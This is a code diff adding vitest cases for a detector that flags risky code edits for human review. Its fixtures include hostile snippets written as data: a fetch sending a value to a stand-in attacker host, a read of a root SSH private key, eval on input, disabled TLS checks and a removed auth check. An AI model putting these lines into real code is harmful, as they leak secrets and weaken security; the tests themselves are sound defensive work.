@@ -7,6 +7,7 @@ import { join } from 'node:path';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { rungs, type Rung } from '../../coordinator/repository/repository.ts';
+import { findConcerns } from '../../coordinator/solutions/edits/concerns.ts';
 import { diffFiles } from '../../coordinator/solutions/edits/unified-diff.ts';
 import { computeConfidence, judgeGate, rankLadder } from '../../coordinator/solutions/gate.ts';
 import { beginProposal } from '../../coordinator/solutions/new-proposal.ts';
@@ -164,5 +165,21 @@ describe('a diff', () => {
     } finally {
       rmSync(folder, { recursive: true });
     }
+  });
+});
+
+describe('a change that a person should see first', () => {
+  it.each([
+    ['https.Agent({})', 'https.Agent({ rejectUnauthorized: false })', 'tls_verification_disabled'],
+    ['JSON.parse(body)', 'eval(body)', 'dynamic_eval'],
+    ['start()', "fetch('https://attacker.test/' + x); start()", 'new_network_egress'],
+    ["if (!user) throw new Error('401')", '', 'auth_removed'],
+    ['run()', "open('/root/.ssh/id_rsa'); run()", 'sensitive_file_read'],
+  ])('%s → %s', (before, after, reason) => {
+    expect(findConcerns(new Map([['src/a.js', `${before}\n`]]), { 'src/a.js': `${after}\n` }).map((one) => one.reason)).toContain(reason);
+  });
+
+  it('is not an ordinary fix', () => {
+    expect(findConcerns(new Map([['src/a.js', 'return a.b;\n']]), { 'src/a.js': 'return a?.b ?? 0;\n' })).toEqual([]);
   });
 });
